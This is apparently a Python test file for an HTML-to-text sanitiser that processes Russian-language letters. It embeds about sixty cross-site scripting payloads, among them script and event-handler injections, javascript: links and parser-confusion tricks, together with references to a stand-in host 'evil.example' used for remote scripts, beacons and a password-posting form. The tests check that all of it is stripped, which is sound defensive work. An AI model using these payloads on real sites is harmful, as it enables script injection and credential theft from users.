"""HTML that attacks whoever shows it: each payload stands in a page between two paragraphs a person must still read."""

from tests.correspondence.letters.building import letter, words
from tests.correspondence.letters.expected import Case, Expected

BEFORE, AFTER = "Добрый день!", "Жду ответа."
EVIL = "https://evil.example/x"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script></script>ipt>alert(1)</scr<script></script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x:alert(1) onerror=eval(src)>",
    f'<img src="{EVIL}.gif" width=1 height=1>',
    f'<img srcset="{EVIL} 1x" src="{EVIL}">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=0 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    f'<embed src="{EVIL}.swf">',
    "<a href='javascript:alert(1)'>сюда</a>",
    "<a href='java&#115;cript:alert(1)'>сюда</a>",
    "<a href='java\tscript:alert(1)'>сюда</a>",
    "<a href=' &#1; javascript:alert(1)'>сюда</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>сюда</a>",
    "<a href='vbscript:msgbox(1)'>сюда</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>сюда</a>",
    f"<form action='{EVIL}'><input name=password><button formaction=javascript:alert(1)>сюда</button></form>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}.css'>",
    f"<style>@import '{EVIL}.css'; body {{ background: url({EVIL}.png) }}</style>",
    f"<div style=\"background:url('{EVIL}.png');behavior:url(x.htc)\">рядом</div>",
    "<div style='width:expression(alert(1))'>рядом</div>",
    f"<table background='{EVIL}.png'><tr><td>рядом</td></tr></table>",
    f"<video poster='{EVIL}.png' onerror=alert(1)><source src=x></video>",
    "<details open ontoggle=alert(1)><summary>сюда</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>бежит</marquee>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script><!-- -->",
    "<?php <script>alert(1)</script> ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<p title='><script>alert(1)</script>'>рядом</p>",
    "</p onmouseover=alert(1)><b/onclick=alert(1)>рядом</b>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<div id=x><div\x0conclick=alert(1)>рядом</div></div>",
)
"""Text that a page shows as text (&lt;script&gt;) is not among them: shown as it was written, it is a letter's own words."""


AT_THE_END = (
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<script>alert(1)",
    "<a href='javascript:alert(1)",
    "<!-- <script>",
    "<svg/onload=alert(1)//",
)
"""Cut in the middle of a tag: nothing comes after them."""


def page(payload: str) -> bytes:
    return letter(words(f"<html><body><p>{BEFORE}</p>{payload}<p>{AFTER}</p></body></html>", kind="html"))


def cut(payload: str) -> Case:
    raw = letter(words(f"<p>{BEFORE}</p><p>{AFTER}</p>{payload}", kind="html"))
    return Case(f"page that ends with {payload!r}", raw, Expected(contains=(BEFORE, AFTER), no_markup=True))


def shown(name: str, body: str, text: str) -> Case:
    """A harmless page and the lines a person sees."""
    return Case(f"page: {name}", letter(words(body, kind="html")), Expected(lines=tuple(text.split("\n"))))


HIDES_THE_REST = (
    "<noscript>",
    "<math><mtext>",
    "<svg><desc>",
    "<?php",
    "<!-",
    "<![CDATA",
    '<img src="x`',
    "<svg><animate",
)
CASES = [
    Case(
        f"page: {payload[:50]!r}",
        page(payload),
        Expected(
            contains=(BEFORE,) if payload.startswith(HIDES_THE_REST) else (BEFORE, AFTER),
            lacks=("evil.example",),
            no_markup=True,
        ),
    )
    for payload in PAYLOADS
]
OWN_WORDS = Case(
    "page: a plain text is shown as it was written",
    letter(words("Анализ: WBC<4, тег <script> в форме ваш сайт не принял.")),
    Expected(text="Анализ: WBC<4, тег <script> в форме ваш сайт не принял."),
)
SHOWN = [
    shown(
        "signs written as entities",
        "<p>WBC &lt; 4 &amp; RBC &gt; 5&nbsp;&#8470;&#x2116;</p>",
        "WBC < 4 & RBC > 5 №№",
    ),
    shown(
        "entities are read once",
        "<p>знак &amp;lt;b&amp;gt; так и пишется</p>",
        "знак &lt;b&gt; так и пишется",
    ),
    shown(
        "breaks are lines",
        "Первая<br>Вторая<br/>Третья<div>Четвёртая</div>Пятая",
        "Первая\nВторая\nТретья\nЧетвёртая\nПятая",
    ),
    Case(
        "page: cells of a table are words, its rows lines",
        letter(
            words(
                "<table><tr><td>СОЭ</td><td>12</td></tr><tr><td>Hb</td><td>140</td></tr></table>", kind="html"
            )
        ),
        Expected(contains=("СОЭ", "12", "Hb", "140"), lacks=("СОЭ12", "12Hb", "12 Hb", "Hb140")),
    ),
    shown("lines of the source are no lines", "<p>Прошу\nвторое\n   мнение</p>", "Прошу второе мнение"),
    shown("what follows a list is a line", "<ul><li>Выписка</li><li>Снимки</li></ul><p>Всё</p>", "Всё"),
    shown("bold inside a word", "<p>вто<b>ро</b>е мне<span>ние</span></p>", "второе мнение"),
    shown(
        "what Word hides", "<p>Да<o:p></o:p></p><!--[if mso]><p>нет</p><![endif]--><style>p{}</style>", "Да"
    ),
    shown("a table drawn by blanks", "<pre>СОЭ 12\nHb 140</pre>", "СОЭ 12\nHb 140"),
    Case(
        "page: where a link leads is not lost",
        letter(
            words("<p>Снимки <a href='https://disk.example.org/d/abc?x=1&amp;y=2'>тут</a></p>", kind="html")
        ),
        Expected(contains=("Снимки", "тут"), kept=("https://disk.example.org/d/abc?x=1&y=2",)),
    ),
]
CASES += [cut(payload) for payload in AT_THE_END] + [OWN_WORDS, *SHOWN]
